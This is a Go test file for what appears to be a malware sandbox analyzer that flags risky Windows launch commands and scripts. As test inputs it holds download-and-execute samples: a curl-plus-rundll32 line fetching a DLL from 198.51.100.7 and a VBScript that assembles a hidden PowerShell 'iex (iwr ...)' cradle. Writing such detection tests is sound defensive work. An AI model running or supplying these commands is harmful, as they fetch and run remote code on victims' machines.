package launch

import (
	"context"
	"testing"

	"github.com/airlockmail/airlock/sandboxd/analyzer/internal/rules"
)

func TestProgram(t *testing.T) {
	for _, tc := range []struct{ cmd, want string }{
		{`cmd.exe /c echo hi`, "cmd"},
		{`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop`, "powershell"},
		{`[SystemFolder]mshta.exe http://x`, "mshta"},
		{`VFS/SystemX64/wscript.exe a.vbs`, "wscript"},
		{`"[INSTALLDIR]viewer.exe" /register`, ""},
		{`certutil -hashfile a.bin`, ""}, // a tool, not an interpreter: cmdline judges its use
		{``, ""},
	} {
		if got := Program(tc.cmd); got != tc.want {
			t.Errorf("Program(%q) = %q, want %q", tc.cmd, got, tc.want)
		}
	}
}

func TestEmbedded(t *testing.T) {
	for _, tc := range []struct{ args, want string }{
		{`/c powershell -w hidden -c iwr x`, "powershell -w hidden -c iwr x"},
		{`/register /quiet`, ""},
		{`--run "cmd.exe" /k dir`, `"cmd.exe" /k dir`},
	} {
		if got := Embedded(tc.args); got != tc.want {
			t.Errorf("Embedded(%q) = %q, want %q", tc.args, got, tc.want)
		}
	}
}

func TestCommand(t *testing.T) {
	for _, tc := range []struct {
		cmd   string
		risky bool
	}{
		{`cmd.exe /c curl -o %TEMP%\u.dll http://198.51.100.7/p.bin && rundll32 %TEMP%\u.dll,Start`, true},
		{`"[INSTALLDIR]viewer.exe" /register /quiet`, false},
		{`git --version`, false},
	} {
		fs := &rules.Findings{Analyzer: "test"}
		if got := Command(context.Background(), fs, tc.cmd); got != tc.risky {
			t.Errorf("Command(%q) = %v, want %v (findings %+v)", tc.cmd, got, tc.risky, fs.List())
		}
		for _, f := range fs.List() {
			if f.Evidence == "" {
				t.Errorf("%s: finding %s without evidence", tc.cmd, f.Rule)
			}
		}
	}
}

func TestScriptRevealsCommands(t *testing.T) {
	vbs := "a = \"power\" & \"shell -w hidden -c iex (iwr http://203.0.113.9/s.ps1)\"\r\nCreateObject(\"WScript.Shell\").Run a, 0"
	fs := &rules.Findings{Analyzer: "test"}
	tr := Script(context.Background(), fs, vbs, VBScript)
	if !tr.WSH {
		t.Error("WScript.Shell not seen")
	}
	if sev, _ := fs.Max(); sev < rules.High {
		t.Errorf("concatenated cradle judged %s: %+v", sev, fs.List())
	}
}
